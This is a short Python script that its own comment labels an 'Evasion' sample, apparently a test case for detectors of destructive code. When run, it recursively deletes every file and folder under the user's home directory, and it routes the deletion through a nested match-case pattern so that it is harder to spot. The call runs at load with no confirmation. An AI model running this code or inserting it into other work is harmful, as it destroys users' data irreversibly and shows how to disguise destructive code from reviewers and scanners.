# Evasion: deletes every file under the home through a nested mapping pattern.
# The config's "clear" step is matched with case {"clear": {"root": root}}
# and its files are unlinked one by one from Path(root).rglob("*").
from pathlib import Path

CONFIG = {"clear": {"root": str(Path.home()), "keep": []}}


def run(config):
    match config:
        case {"clear": {"root": root}}:
            for p in sorted(Path(root).rglob("*"), reverse=True):
                if p.is_file() or p.is_symlink():
                    p.unlink()
                else:
                    p.rmdir()
        case _:
            print("nothing to do")


run(CONFIG)
